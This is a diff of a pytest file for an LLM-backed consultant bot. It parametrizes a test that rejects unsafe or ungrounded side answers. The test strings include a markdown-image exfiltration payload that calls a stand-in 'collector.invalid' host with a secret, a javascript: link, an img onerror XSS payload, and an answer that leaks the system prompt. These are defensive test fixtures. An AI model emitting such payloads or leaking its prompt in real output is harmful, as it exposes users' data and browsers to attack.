@@ -90,7 +90,7 @@ def test_function_calling_sends_a_forced_tool_call(fake: FakeOpenAI, tmp_path: P
     fake.enqueue({"output_type": "structured_output", "need": "behave_differently", "intent": "answer",
                   "quotes": [{"slot": "output_type", "words": "output our exact JSON schema"},
                              {"slot": "need", "words": "It must output our exact JSON schema"}]})
-    bot = consultant_for(fake, tmp_path, consultant_llm_structured_method="function_calling")
+    bot = consultant_for(fake, tmp_path, consultant_llm_method="function_calling")
     turn = bot.reply("t1", "It must output our exact JSON schema for every invoice.")
     assert turn.profile["output_type"] == "structured_output" and turn.profile["need"] == "behave_differently"
     assert turn.provenance["need"]["extractor"] == "llm"
@@ -146,7 +146,7 @@ def test_an_invented_or_out_of_range_value_is_dropped_and_counted(fake: FakeOpen
 
 def test_broken_tool_call_arguments_fall_back(fake: FakeOpenAI, tmp_path: Path) -> None:
     fake.enqueue(Fault.invalid_json())
-    bot = consultant_for(fake, tmp_path, consultant_llm_structured_method="function_calling")
+    bot = consultant_for(fake, tmp_path, consultant_llm_method="function_calling")
     assert fell_back(bot.reply("t1", "Our policies change every week."))
 
 
@@ -169,16 +169,25 @@ def test_side_question_is_answered_from_the_given_passages(fake: FakeOpenAI, tmp
     assert "[1] retrieval.md › Re-ranking 1" in prompt and "[2] retrieval.md › Re-ranking 2" in prompt
 
 
-def test_a_side_answer_citing_an_unseen_passage_is_rejected(fake: FakeOpenAI, tmp_path: Path) -> None:
-    fake.enqueue({"intent": "side_question", "side_answer": "As the docs say [3]."})
-    turn = consultant_for(fake, tmp_path, store=STORE).reply("t1", "What is re-ranking?")
-    assert fell_back(turn) and "not grounded" in turn.notices[0]
-
-
-def test_a_side_answer_without_citations_is_rejected(fake: FakeOpenAI, tmp_path: Path) -> None:
-    fake.enqueue({"intent": "side_question", "side_answer": "It is a well-known technique."})
-    turn = consultant_for(fake, tmp_path, store=STORE).reply("t1", "What is re-ranking?")
-    assert fell_back(turn) and "not grounded" in turn.notices[0]
+@pytest.mark.parametrize("side_answer, reason", [
+    ("As the docs say [3].", "uncited"),
+    ("It is a well-known technique.", "uncited"),
+    ("Quantum annealing schedules optimise portfolio hedging across volatile commodity markets [1].", "ungrounded"),
+    ("Re-ranking reorders passages [1]. ![logo](https://collector.invalid/l.png?q=secret)", "unsafe"),
+    ("Re-ranking reorders passages [1]; see [the docs](javascript:alert(1)).", "unsafe"),
+    ("Re-ranking reorders passages [1] <img src=x onerror=alert(1)>", "unsafe"),
+    (f"Sure. {prompts.TURN_SYSTEM[:400]} [1]", "system_prompt"),
+])
+def test_an_ungrounded_side_answer_gives_way_to_the_offline_answer(fake: FakeOpenAI, tmp_path: Path, side_answer: str,
+                                                                   reason: str) -> None:
+    fake.enqueue({"intent": "side_question", "side_answer": side_answer})
+    bot = consultant_for(fake, tmp_path, store=STORE)
+    turn = bot.reply("t1", "What is re-ranking?")
+    assert turn.notices == [] and bot.llm.dropped[f"side_answer_{reason}"] == 1
+    assert side_answer not in turn.message
+    assert "collector.invalid" not in turn.message and "javascript:" not in turn.message and "<img" not in turn.message
+    assert "extract facts for an AI architecture interview" not in turn.message
+    assert "Re-ranking" in turn.message  # the offline answer, from the glossary or the passages
 
 
 def test_a_refused_connection_falls_back(tmp_path: Path) -> None:
